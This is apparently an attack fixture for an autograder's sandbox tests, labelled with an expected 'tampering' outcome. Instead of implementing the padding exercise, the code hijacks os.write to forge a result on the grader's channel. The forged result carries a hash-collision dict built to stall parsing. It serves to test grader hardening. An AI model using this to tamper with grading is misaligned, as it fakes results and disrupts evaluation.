# /// attack
# tries = "Answers with a dict of 10,000 keys of one hash, which is slow to read and unlimited."
# exercise = "ex02_zero_padding"
# answers = "own"
# points = 0
# outcomes = ["tampering"]
# ///
# 100,000 keys fit into a frame, and take a hundred times as long.
import os
import struct
import sys

from grader.sandbox.inside.encoder import encode

_write = os.write
_KEYS = [(n * sys.hash_info.modulus).to_bytes(16, "little", signed=True) for n in range(1, 10_001)]
_DICT = b"d" + struct.pack("<I", 10_000) + b"".join(b"i\x10\0\0\0" + key + b"N" for key in _KEYS)


def _forge(descriptor, data):
    if descriptor != 3:
        return _write(descriptor, data)
    body = encode(("returned", None))[:-1] + _DICT
    _write(descriptor, len(body).to_bytes(4, "little") + bytes(data[4:12]) + body)
    return len(data)


def same_padding(kernel_size):
    os.write = _forge


def zero_pad2d(x, padding):
    os.write = _forge
